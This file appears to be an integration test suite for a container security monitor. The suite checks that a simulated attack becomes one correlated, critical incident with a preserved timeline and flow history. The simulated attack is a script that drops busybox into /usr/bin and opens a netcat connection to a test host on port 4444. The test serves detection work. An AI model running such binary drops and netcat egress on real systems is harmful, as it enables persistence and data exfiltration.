// Incidents, timelines and flow history on the real stack: the real agent on the private daemon,
// a scripted multi-step attack inside a container (a shell, a tool dropped into /usr/bin, a
// connection to the test host), two containers with an unrelated benign burst, a `docker rm`, and
// an agent restart on the same state directory.
import { mkdtempSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import path from 'node:path';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import WebSocket from 'ws';
import type { Incident } from '../../alerts/incident.ts';
import type { EndedFlow } from '../../alerts/flow-history.ts';
import { runShipwatch, startAgent, type AgentProcess } from '../support/agent-process.ts';
import { docker, INTERNET_HOST, removeContainers, runContainer, uniqueName } from '../support/testenv.ts';
import { waitFor } from '../support/wait.ts';

const get = async <T>(agent: AgentProcess, route: string): Promise<{ status: number; body: T }> => {
  const response = await fetch(`${agent.baseUrl}${route}`);
  return { status: response.status, body: (await response.json()) as T };
};

const incidentsOf = async (agent: AgentProcess, container: string): Promise<Incident[]> =>
  (await get<{ incidents: Incident[] }>(agent, `/api/incidents?container=${container}`)).body.incidents;

/** Whether `rules` appear in `seen` in this order (others may sit between them). */
const inOrder = (seen: string[], rules: string[]): boolean => {
  let next = 0;
  for (const rule of seen) if (rule === rules[next]) next++;
  return next === rules.length;
};

// The shell step is the `docker exec` of sh (interactive_exec); suspicious_process for the same
// shell needs /proc/<pid>/exe read in time, which a loaded machine does not always manage.
const ATTACK = ['interactive_exec', 'sensitive_file_change', 'unexpected_egress'];

describe('incidents, timelines and flow history on the real stack', () => {
  const [victim, benignA, benignB] = ['victim', 'calm-a', 'calm-b'].map((n) => uniqueName(`inc-${n}`)) as [
    string,
    string,
    string,
  ];
  const stateDir = mkdtempSync(path.join(tmpdir(), 'sw-incidents-'));
  const configFile = path.join(stateDir, 'shipwatch.yaml');
  const streamed: { type: string; change?: string; incident?: Incident }[] = [];
  let agent: AgentProcess;
  let victimId = '';
  let ws: WebSocket | null = null;

  beforeAll(async () => {
    // learn 0: policy only, so the egress to the test host is unexpected at once.
    writeFileSync(configFile, ['learn: 0s', 'incidents:', '  gap: 2m'].join('\n'));
    agent = await startAgent(['--config', configFile, '--state-dir', stateDir]);
    ws = new WebSocket(`${agent.baseUrl.replace('http', 'ws')}/api/stream`);
    ws.on('message', (data: Buffer) => {
      const message = JSON.parse(data.toString()) as { type: string };
      if (message.type === 'incident') streamed.push(message);
    });
    [victimId] = await Promise.all([
      runContainer(victim, ['--label', 'shipwatch.workload=inc/victim']),
      runContainer(benignA, ['--label', 'shipwatch.workload=inc/calm-a']),
      runContainer(benignB, ['--label', 'shipwatch.workload=inc/calm-b']),
    ]);
    // Let the agent attach to the three before anything happens in them.
    await waitFor(
      async () => {
        const list = (await get<{ name: string }[]>(agent, '/api/containers')).body;
        return [victim, benignA, benignB].every((n) => list.some((c) => c.name === n));
      },
      { timeout: 20_000, what: 'the containers in the inventory' },
    );
    await new Promise((resolve) => setTimeout(resolve, 1500)); // file watches attach after inspect
  }, 60_000);

  afterAll(async () => {
    ws?.close();
    await agent?.stop();
    await removeContainers(victim, benignA, benignB);
  });

  it('makes one incident of a scripted attack, its alerts in order and its severity raised a step', async () => {
    await docker(
      'exec',
      victim,
      'sh',
      '-c',
      `sleep 1; cp /bin/busybox /usr/bin/dropped-tool; sleep 1; echo x | nc -w 2 ${INTERNET_HOST} 4444; true`,
    );
    const incident = await waitFor(
      async () => {
        const list = await incidentsOf(agent, victim);
        const found = list.find((i) =>
          inOrder(
            i.alerts.map((a) => a.rule),
            ATTACK,
          ),
        );
        return found?.story ? found : null;
      },
      { timeout: 30_000, interval: 500, what: 'the incident of the attack with its story' },
    );
    const list = await incidentsOf(agent, victim);
    expect(list).toHaveLength(1);
    expect(incident.story?.id).toBe('shell_drift_egress');
    // Each step alone is high at most (sensitive_file_change, unexpected_egress): the chain is critical.
    const worst = incident.alerts.map((a) => a.severity);
    expect(worst).not.toContain('critical');
    expect(incident.severity).toBe('critical');
    expect(incident.tactics.length).toBeGreaterThan(1);
    expect(incident.containers.map((c) => c.name)).toEqual([victim]);
    // Every alert of the victim names this incident, in the journal too.
    const alerts = (
      await get<{ alerts: { incident: string; rule: string }[] }>(agent, `/api/alerts?container=${victim}`)
    ).body.alerts;
    expect(alerts.length).toBeGreaterThanOrEqual(3);
    expect(new Set(alerts.map((a) => a.incident))).toEqual(new Set([incident.id]));
    // The live stream told as it opened and as it grew.
    const told = streamed.filter((m) => m.incident?.id === incident.id).map((m) => m.change);
    expect(told[0]).toBe('opened');
    await waitFor(() => streamed.some((m) => m.incident?.id === incident.id && m.change === 'grew'), {
      timeout: 5000,
      what: 'a grew message',
    });
    // One incident by id, with the same alerts.
    const one = await get<Incident>(agent, `/api/incidents/${incident.id}`);
    expect(one.body.alerts.map((a) => a.id)).toEqual(expect.arrayContaining(incident.alerts.map((a) => a.id)));
  });

  it('keeps a benign burst in two unrelated containers as two incidents, with no story', async () => {
    await Promise.all([benignA, benignB].map((name) => docker('exec', name, 'sh', '-c', 'ls / >/dev/null; id')));
    const [a, b] = await waitFor(
      async () => {
        const [ia, ib] = await Promise.all([incidentsOf(agent, benignA), incidentsOf(agent, benignB)]);
        const busy = (list: Incident[]) => list.find((i) => i.alerts.some((x) => x.rule === 'interactive_exec'));
        const found = [busy(ia), busy(ib)];
        return found[0] && found[1] ? (found as [Incident, Incident]) : null;
      },
      { timeout: 20_000, interval: 500, what: 'an incident in each benign container' },
    );
    expect(a.id).not.toBe(b.id);
    expect(a.containers.map((c) => c.name)).toEqual([benignA]);
    expect(b.containers.map((c) => c.name)).toEqual([benignB]);
    expect(a.story).toBeNull();
    expect(b.story).toBeNull();
    expect(await incidentsOf(agent, benignA)).toHaveLength(1);
  });

  it('keeps the timeline of a removed container: its execs with argv, its flows and its alerts', async () => {
    await docker('rm', '-f', victim);
    const timeline = await waitFor(
      async () => {
        const { status, body } = await get<{
          container: { removedAt: number | null };
          entries: Record<string, unknown>[];
        }>(agent, `/api/containers/${victim}/timeline`);
        return status === 200 && body.container.removedAt !== null ? body : null;
      },
      { timeout: 15_000, interval: 500, what: 'the removed container’s timeline' },
    );
    const kinds = new Set(timeline.entries.map((e) => e.kind));
    expect([...kinds]).toEqual(expect.arrayContaining(['exec', 'file', 'flow.start', 'alert', 'docker']));
    // The script's shell lives for seconds: its argv is read for sure (a refused nc may exit first).
    const script = timeline.entries.find(
      (e) => e.kind === 'exec' && (e.argv as string[]).join(' ').includes(`nc -w 2 ${INTERNET_HOST} 4444`),
    );
    expect(script?.argv).toEqual(expect.arrayContaining(['sh', '-c']));
    expect(timeline.entries.some((e) => e.kind === 'file' && e.path === '/usr/bin/dropped-tool')).toBe(true);
    expect(timeline.entries.some((e) => e.kind === 'docker' && e.action === 'removed')).toBe(true);
    // The CLI reads the same record from the state directory.
    const cli = await runShipwatch(['timeline', victimId.slice(0, 12), '--state-dir', stateDir]);
    expect(cli.code).toBe(0);
    expect(cli.stdout).toContain(`nc -w 2 ${INTERNET_HOST} 4444`);
  });

  it('answers the flow history and the incidents after an agent restart', async () => {
    const incidentId = (await get<{ incidents: Incident[] }>(agent, `/api/incidents?container=${victim}`)).body
      .incidents[0]?.id;
    ws?.close();
    expect(await agent.stop()).toBe(0);
    agent = await startAgent(['--config', configFile, '--state-dir', stateDir]);
    const { body } = await get<{ flows: EndedFlow[] }>(
      agent,
      `/api/flows/history?container=${victim}&dst=${INTERNET_HOST}`,
    );
    expect(body.flows.length).toBeGreaterThan(0);
    expect(body.flows[0]).toMatchObject({ protocol: 'tcp', dst: { ip: INTERNET_HOST, port: 4444 } });
    expect(body.flows[0]?.src.name).toBe(victim);
    const again = await get<Incident>(agent, `/api/incidents/${incidentId}`);
    expect(again.status).toBe(200);
    expect(again.body.story?.id).toBe('shell_drift_egress');
    const cli = await runShipwatch(['flows', '--state-dir', stateDir, '--dst', INTERNET_HOST, '--since', '1h']);
    expect(cli.code).toBe(0);
    expect(cli.stdout).toContain(`${INTERNET_HOST}:4444`);
    const listed = await runShipwatch(['incidents', '--state-dir', stateDir, '--container', victim, '--json']);
    expect(listed.code).toBe(0);
    expect(
      listed.stdout
        .trim()
        .split('\n')
        .map((line) => (JSON.parse(line) as Incident).id),
    ).toEqual([incidentId]);
  });
});
